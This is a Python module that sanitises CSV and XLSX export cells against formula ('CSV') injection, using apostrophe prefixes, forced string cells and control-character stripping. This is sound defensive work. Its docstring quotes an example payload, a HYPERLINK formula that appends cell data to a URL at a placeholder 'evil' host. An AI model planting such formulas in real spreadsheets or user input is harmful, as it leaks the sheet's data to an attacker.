"""The one safe-cell writer for every CSV and XLSX the system produces (OWASP "CSV injection").

A text a user typed (a comment, a username typed at a failed sign-in, a meeting title) that
starts with `= + - @`, a tab or a carriage return is read as a formula by Excel and LibreOffice:
`=HYPERLINK("http://evil/?"&A1, "Bấm vào đây")` would send the sheet's data to whoever planted it.
Every export writes its cells through these helpers:

- CSV: `csv_row(values)` prefixes such a text with an apostrophe (Excel's "this is text" mark);
- XLSX: `xlsx_set(cell, value)` (normal workbooks) and `xlsx_row(sheet, values)` (write-only
  workbooks) store every string as a string cell, never a formula, and flag formula-like texts
  with Excel's quote prefix so they stay text even when the cell is edited again. Control
  characters, which make an invalid .xlsx, are dropped.

Numbers, dates and booleans pass through unchanged, so sums and filters keep working.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell, MergedCell, WriteOnlyCell
from openpyxl.worksheet.worksheet import Worksheet

__all__ = ["FORMULA_START", "csv_row", "csv_text", "is_formula_like", "xlsx_row", "xlsx_set", "xlsx_text"]

# A cell starting with one of these is evaluated as a formula by a spreadsheet program.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_START)


def csv_text(value: Any) -> Any:
    """A CSV field: formula-like texts get a leading apostrophe; other values are left as they are."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_text(value) for value in values]


def xlsx_text(value: str) -> str:
    """A string an .xlsx can hold: control characters (other than tab, CR, LF) removed."""
    return ILLEGAL_CHARACTERS_RE.sub("", value)


def xlsx_set(cell: Cell | MergedCell, value: Any) -> Cell | MergedCell:
    """Write `value` into `cell`; a string is always a string cell, never a formula."""
    if isinstance(value, str):
        text = xlsx_text(value)
        cell.value = text
        cell.data_type = "s"  # openpyxl would otherwise store a text starting with "=" as a formula
        if is_formula_like(text):
            cell.quotePrefix = True  # Excel's leading apostrophe: stays text when edited again
    else:
        cell.value = value
    return cell


def xlsx_row(sheet: Worksheet, values: Iterable[Any]) -> list[Cell]:
    """Cells for `sheet.append(...)` of a write-only (or normal) worksheet, each written safely."""
    cells = []
    for value in values:
        cell = WriteOnlyCell(sheet)
        xlsx_set(cell, value)
        cells.append(cell)
    return cells
